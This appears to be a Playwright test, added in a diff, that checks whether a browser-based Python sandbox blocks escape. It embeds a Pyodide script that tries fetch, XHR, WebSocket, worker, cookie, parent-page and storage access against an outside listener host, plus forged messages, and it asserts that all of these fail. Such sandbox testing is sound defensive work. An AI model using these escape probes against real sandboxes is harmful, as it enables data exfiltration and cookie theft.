@@ -1,0 +1,69 @@
+import { test } from '@playwright/test';
+import { expect, FrameHost } from './frame-host.ts';
+import { listenOutside } from './leaks.ts';
+
+/** All ways out that a worker's page has, by Python's own door to JavaScript. `outside`: host and port. */
+const attempts = (outside: string, server: string) => `
+import js, asyncio, traceback
+from pyodide.ffi import run_sync, to_js
+from js import Object
+out = 'http://${outside}/'
+def options(**given): return to_js(given, dict_converter=Object.fromEntries)
+def wait(promise): return run_sync(promise)
+def xhr(where):
+    x = js.XMLHttpRequest.new(); x.open('GET', where, False); x.send(); return x.status == 200
+def inner():
+    code = "fetch('" + out + "inner', {mode: 'no-cors'})"
+    js.Worker.new('data:text/javascript,' + js.encodeURIComponent(code), options(type='module'))
+tries = {
+  'fetch': lambda: wait(js.fetch(out + 'fetch', options(mode='no-cors'))),
+  'call': lambda: wait(js.fetch('${server}/Login/getLogo', options(mode='no-cors'))),
+  'frame': lambda: wait(js.fetch('${server}/workspace/frame/html/', options(mode='no-cors'))),
+  'xhr': lambda: xhr(out + 'xhr'),
+  'socket': lambda: js.WebSocket.new('ws://${outside}/socket') and False,
+  'events': lambda: js.EventSource.new(out + 'events') and False,
+  'scripts': lambda: js.importScripts(out + 'scripts'),
+  'inner': inner,
+  'remote': lambda: js.Worker.new(out + 'remote'),
+  'eval': lambda: js.eval('1'),
+  'rtc': lambda: js.RTCPeerConnection.new(),
+  'page': lambda: js.document.cookie,
+  'parent': lambda: js.parent.document,
+  'database': lambda: js.indexedDB.open('x') and False,
+  'caches': lambda: wait(js.caches.open('x')),
+  'service': lambda: wait(js.navigator.serviceWorker.register('x.js')),
+  'urllib': lambda: __import__('urllib.request').request.urlopen(out + 'urllib'),
+  'disk': lambda: wait(js.navigator.storage.getDirectory()),
+}
+got = []
+for name, attempt in tries.items():
+    try:
+        if attempt() is not False and name != 'inner': got.append(name)
+    except BaseException: pass
+import time
+time.sleep(1.5)
+print('got:', ','.join(got), 'done')
+js.postMessage(options(type='write', kind='log', text='forged'))
+js.postMessage(options(type='draw', commands='[{"do":"paper","wide":1e9}]', isAtOnce=True))
+js.postMessage(options(banyan='hello'))
+`;
+
+test.describe('the sandbox of Python', () => {
+  test('reaches nothing: no request, no storage, no other page [CW-06]', async ({ page }) => {
+    const outside = await listenOutside();
+    const finished: string[] = [];
+    page.on('requestfinished', (request) => finished.push(request.url()));
+    const host = await FrameHost.open(page, 'python');
+    const server = process.env['BANYAN_URL'] ?? '';
+    await host.run({ 'main.py': attempts(new URL(outside.control).host, server) });
+    await expect(host.output).toContainText(/got:.*done/);
+    expect(await host.output.innerText()).toMatch(/got: {2}done/);
+    await host.hear('stopped');
+    expect([...outside.heard]).toEqual([]);
+    const own = `${server}/workspace/frame/python/`;
+    const others = finished.filter((url) => !url.startsWith(own) && !/^(?:data|blob):/.test(url));
+    expect(others).toEqual([`${server}/frame-host`]);
+    expect(page.url()).toMatch(/frame-host$/);
+    outside.close();
+  });
+});
